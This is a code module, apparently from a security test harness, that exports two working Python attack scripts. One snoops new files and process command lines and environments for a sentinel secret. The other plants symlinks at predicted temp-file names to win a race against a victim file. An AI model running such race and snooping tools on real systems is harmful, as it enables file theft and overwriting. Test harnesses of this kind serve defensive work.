/** Python: waits for files in folders, reads each as soon as it is there, and looks at all processes meanwhile. */
export const spy = `import ctypes, os, struct, sys, threading, time
secret, folders = open('/usr/local/bin/attacker.secret', 'rb').read().strip(), sys.argv[1:]
seen = set()
def tell(text):
    if text not in seen:
        seen.add(text)
        print(text, flush=True)
def read(path):
    try:
        with open(path, 'rb') as file:
            mode = os.fstat(file.fileno()).st_mode & 0o7777
            # An open descriptor goes on reading after a mode was changed.
            for _ in range(3):
                file.seek(0)
                if secret in file.read(1 << 20):
                    tell('%s %o' % (path, mode))
                    return
                time.sleep(0.002)
    except OSError:
        pass
def processes():
    while True:
        for pid in os.listdir('/proc'):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            for what in ('cmdline', 'environ'):
                try:
                    with open('/proc/%s/%s' % (pid, what), 'rb') as file:
                        if secret in file.read():
                            tell('%s of a process' % what)
                except OSError:
                    pass
        time.sleep(0.005)
threading.Thread(target=processes, daemon=True).start()
libc = ctypes.CDLL('libc.so.6', use_errno=True)
inotify = libc.inotify_init()
watched = {}
def watch(folder):
    number = libc.inotify_add_watch(inotify, folder.encode(), 0x00000100 | 0x00000002 | 0x00000080 | 0x00000008 | 0x00000004)
    if number >= 0:
        watched[number] = folder
        try:
            for name in os.listdir(folder):
                read(os.path.join(folder, name))
        except OSError:
            pass
for folder in folders:
    watch(folder)
while True:
    data, at = os.read(inotify, 65536), 0
    while at < len(data):
        number, mask, _, length = struct.unpack_from('iIII', data, at)
        name = data[at + 16:at + 16 + length].rstrip(b'\\0').decode(errors='replace')
        at += 16 + length
        path = os.path.join(watched.get(number, ''), name)
        if mask & 0x40000000:
            watch(path)
        else:
            read(path)
`;

/** Python: puts links to a victim at every name that a file may be staged under, before it is and as soon as it is. */
export const planter = `import os, sys, time
folder, name, victim = sys.argv[1:4]
os.chdir(folder)
def plant(at):
    try:
        os.symlink(victim, at)
    except OSError:
        pass
known = set(os.listdir('.'))
while True:
    try:
        last = int(open('/proc/loadavg').read().split()[-1])
    except (OSError, ValueError):
        last = 0
    for pid in range(last, last + 40):
        plant('.%s.%d.staged' % (name, pid))
    for one in os.listdir('.'):
        if one in known or os.path.islink(one):
            continue
        if 'staged' in one or one.startswith('.') or one.startswith('tmp'):
            try:
                os.unlink(one)
            except OSError:
                continue
            plant(one)
`;
